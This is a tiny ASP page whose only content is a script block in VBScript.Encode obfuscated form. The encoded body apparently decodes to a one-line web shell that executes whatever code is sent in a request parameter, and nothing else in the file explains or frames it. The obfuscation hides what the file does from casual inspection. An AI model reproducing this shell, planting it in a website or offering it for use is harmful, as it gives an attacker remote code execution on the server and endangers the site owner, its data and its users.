<%@ LANGUAGE = VBScript.Encode %>
<%#@~^GAAAAA==3X+^!YPI;!n/D`E3r#@#@&8wYAAA==^#~@%>
